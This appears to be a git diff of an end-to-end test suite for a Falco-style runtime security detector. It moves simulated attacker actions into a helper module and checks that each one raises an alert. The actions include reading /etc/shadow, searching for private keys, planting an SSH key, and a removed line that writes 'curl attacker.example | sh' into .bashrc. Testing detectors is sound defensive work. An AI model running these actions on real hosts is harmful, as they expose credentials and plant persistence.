@@ -6,18 +6,21 @@
 //
 // Needs root, a BTF kernel, the built driver, ../shared/falco/rules and bpftool; every skip
 // says which is missing. Every rule used here is enabled in its file, so no `-o rules[]`
-// selection is needed. The kernel-module rule requires a container: the attempt runs in a
-// cgroup laid out as Docker lays out a container's (/docker/<64 hex>), which is what makes a
-// process a container for Falco's container plugin and for Saker.
+// selection is needed. The actions themselves are in attacks.ts (default-rules.test.ts runs
+// them too, against Saker's own rules).
 import { after, before, describe, test } from 'node:test'
 import assert from 'node:assert/strict'
 import { spawnSync } from 'node:child_process'
-import { copyFileSync, existsSync, mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs'
+import { mkdtempSync, rmSync, writeFileSync } from 'node:fs'
 import { tmpdir } from 'node:os'
 import { join } from 'node:path'
 import { openCapture } from '../../src/capture/reader.js'
 import { EVENTS } from '../../src/events/table.js'
-import { ROOT, RULES_ARGS, SAKER_BIN, Saker, type Alert, loadedProgs, newSakerProgs, prog, skipReason, waitUnloaded, wiringProblem } from './helpers.js'
+import {
+  appendAuthorizedKey, appendShellRc, clearLog, execFromMemfd, hardlinkShadow, loadKernelModuleInContainer, ptraceAttach,
+  readShadow, run, runFromDevShm, searchPrivateKeys, setSetuidBit, symlinkShadow,
+} from './attacks.js'
+import { ROOT, RULES_ARGS, SAKER_BIN, Saker, type Alert, loadedProgs, newSakerProgs, skipReason, waitUnloaded, wiringProblem } from './helpers.js'
 
 let skip = skipReason()
 if (skip === null) {
@@ -25,11 +28,6 @@ if (skip === null) {
   const probe = spawnSync(process.execPath, [SAKER_BIN, ...RULES_ARGS, '-o', 'engine.kind=modern_ebpf', '-o', 'stdout_output.enabled=true', '-M', '1'],
     { cwd: ROOT, encoding: 'utf8', timeout: 120_000 })
   skip = wiringProblem(probe.stderr ?? '')
-}
-
-function run(cmd: string, args: string[], opts: { input?: string; env?: NodeJS.ProcessEnv } = {}): void {
-  const r = spawnSync(cmd, args, { encoding: 'utf8', input: opts.input, env: opts.env ?? process.env })
-  if (r.error) throw r.error
 }
 
 const f = (a: Alert, k: string): unknown => a.output_fields[k]
@@ -51,7 +49,7 @@ describe('an attacker on this host is seen', { skip: skip ?? false }, () => {
   })
 
   test('reading /etc/shadow with a program not on the trusted list: Read sensitive file untrusted', async () => {
-    run('cat', ['/etc/shadow'])
+    readShadow()
     const a = await saker.alert('Read sensitive file untrusted', a => f(a, 'proc.name') === 'cat')
     assert.equal(f(a, 'proc.cmdline'), 'cat /etc/shadow')
     assert.equal(f(a, 'fd.name'), '/etc/shadow')
@@ -61,7 +59,7 @@ describe('an attacker on this host is seen', { skip: skip ?? false }, () => {
   })
 
   test('searching for private keys: Search Private Keys or Passwords', async () => {
-    run('find', ['/', '-maxdepth', '3', '-name', 'id_rsa'])
+    searchPrivateKeys()
     const a = await saker.alert('Search Private Keys or Passwords', a => f(a, 'proc.name') === 'find')
     assert.equal(f(a, 'proc.cmdline'), 'find / -maxdepth 3 -name id_rsa')
     assert.equal(f(a, 'proc.pname'), 'node')
@@ -70,8 +68,7 @@ describe('an attacker on this host is seen', { skip: skip ?? false }, () => {
   })
 
   test('a symlink over /etc/shadow: Create Symlink Over Sensitive Files', async () => {
-    const link = join(work, 'shadow-sym')
-    run('ln', ['-s', '/etc/shadow', link])
+    const link = symlinkShadow(work)
     const a = await saker.alert('Create Symlink Over Sensitive Files', a => f(a, 'proc.name') === 'ln')
     assert.equal(f(a, 'proc.cmdline'), `ln -s /etc/shadow ${link}`)
     assert.equal(f(a, 'evt.arg.target'), '/etc/shadow')
@@ -81,8 +78,7 @@ describe('an attacker on this host is seen', { skip: skip ?? false }, () => {
   })
 
   test('a hardlink over /etc/shadow: Create Hardlink Over Sensitive Files', async () => {
-    const link = join(work, 'shadow-hard')
-    run('ln', ['/etc/shadow', link])
+    const link = hardlinkShadow(work)
     const a = await saker.alert('Create Hardlink Over Sensitive Files', a => f(a, 'proc.name') === 'ln')
     assert.equal(f(a, 'proc.cmdline'), `ln /etc/shadow ${link}`)
     assert.equal(f(a, 'evt.arg.oldpath'), '/etc/shadow')
@@ -90,13 +86,7 @@ describe('an attacker on this host is seen', { skip: skip ?? false }, () => {
   })
 
   test('running a binary from /dev/shm: Execution from /dev/shm', async () => {
-    const bin = `/dev/shm/e2e-${process.pid}`
-    copyFileSync('/bin/true', bin)
-    try {
-      run(bin, [])
-    } finally {
-      rmSync(bin, { force: true })
-    }
+    const bin = runFromDevShm(`e2e-${process.pid}`)
     const a = await saker.alert('Execution from /dev/shm', a => f(a, 'proc.exepath') === bin)
     assert.equal(f(a, 'proc.name'), `e2e-${process.pid}`.slice(0, 15))
     assert.equal(f(a, 'proc.pname'), 'node')
@@ -104,7 +94,7 @@ describe('an attacker on this host is seen', { skip: skip ?? false }, () => {
   })
 
   test('executing a program from a memfd: Fileless execution via memfd_create', async () => {
-    run(prog('memfd_exec'), ['/bin/true'])
+    execFromMemfd()
     const a = await saker.alert('Fileless execution via memfd_create')
     assert.match(String(f(a, 'proc.exepath')), /^\/?memfd:saker-e2e/)
     assert.equal(f(a, 'proc.pname'), 'node')
@@ -113,7 +103,7 @@ describe('an attacker on this host is seen', { skip: skip ?? false }, () => {
   })
 
   test('attaching ptrace to a process: PTRACE attached to process', async () => {
-    run(prog('ptrace_attach'), [])
+    ptraceAttach()
     const a = await saker.alert('PTRACE attached to process', a => f(a, 'proc.name') === 'ptrace_attach')
     assert.equal(f(a, 'evt.type'), 'ptrace')
     assert.equal(f(a, 'proc.pname'), 'node')
@@ -121,9 +111,7 @@ describe('an attacker on this host is seen', { skip: skip ?? false }, () => {
   })
 
   test('setting the setuid bit: Set Setuid or Setgid bit', async () => {
-    const file = join(work, 'suid')
-    writeFileSync(file, '')
-    run('chmod', ['u+s', file])
+    const file = setSetuidBit(work)
     const a = await saker.alert('Set Setuid or Setgid bit', a => f(a, 'proc.name') === 'chmod')
     assert.equal(f(a, 'proc.cmdline'), `chmod u+s ${file}`)
     assert.match(String(f(a, 'evt.arg.mode')), /S_ISUID/)
@@ -131,9 +119,7 @@ describe('an attacker on this host is seen', { skip: skip ?? false }, () => {
   })
 
   test('appending a key to ~/.ssh/authorized_keys: Adding ssh keys to authorized_keys', async () => {
-    mkdirSync(join(home, '.ssh'), { recursive: true })
-    const keys = join(home, '.ssh', 'authorized_keys')
-    run('tee', ['-a', keys], { input: 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIE2e2e2e2e2e attacker\n' })
+    const keys = appendAuthorizedKey(home)
     const a = await saker.alert('Adding ssh keys to authorized_keys', a => f(a, 'fd.name') === keys)
     assert.equal(f(a, 'proc.name'), 'tee')
     assert.equal(f(a, 'proc.cmdline'), `tee -a ${keys}`)
@@ -142,8 +128,7 @@ describe('an attacker on this host is seen', { skip: skip ?? false }, () => {
   })
 
   test('writing to a shell configuration file: Modify Shell Configuration File', async () => {
-    const rc = join(home, '.bashrc')
-    run('tee', ['-a', rc], { input: 'curl -s http://attacker.example/x | sh\n' })
+    const rc = appendShellRc(home)
     const a = await saker.alert('Modify Shell Configuration File', a => f(a, 'fd.name') === rc)
     assert.equal(f(a, 'proc.name'), 'tee')
     assert.equal(f(a, 'proc.pname'), 'node')
@@ -151,14 +136,7 @@ describe('an attacker on this host is seen', { skip: skip ?? false }, () => {
   })
 
   test('loading a kernel module (the attempt, from a container): Linux Kernel Module Injection Detected', async () => {
-    const id = 'e2e'.padEnd(64, 'a')
-    const cg = existsSync('/sys/fs/cgroup/pids') ? `/sys/fs/cgroup/pids/docker/${id}` : `/sys/fs/cgroup/docker/${id}`
-    mkdirSync(cg, { recursive: true })
-    try {
-      run('sh', ['-c', `echo $$ > ${cg}/cgroup.procs && exec ${prog('init_module_junk')}`])
-    } finally {
-      spawnSync('rmdir', [cg])
-    }
+    loadKernelModuleInContainer('e2e')
     const a = await saker.alert('Linux Kernel Module Injection Detected')
     assert.equal(f(a, 'proc.name'), 'init_module_jun') // comm: 15 characters
     assert.equal(f(a, 'evt.type'), 'init_module')
@@ -167,12 +145,7 @@ describe('an attacker on this host is seen', { skip: skip ?? false }, () => {
   })
 
   test('clearing a log file: Clear Log Activities', async () => {
-    const logFile = `/var/log/saker-e2e-${process.pid}.log`
-    try {
-      run('sh', ['-c', `echo entry >> ${logFile}; : > ${logFile}`])
-    } finally {
-      rmSync(logFile, { force: true })
-    }
+    const logFile = clearLog(`saker-e2e-${process.pid}`)
     const a = await saker.alert('Clear Log Activities', a => f(a, 'fd.name') === logFile)
     assert.equal(f(a, 'proc.name'), 'sh')
     assert.equal(f(a, 'proc.cmdline'), `sh -c echo entry >> ${logFile}; : > ${logFile}`)
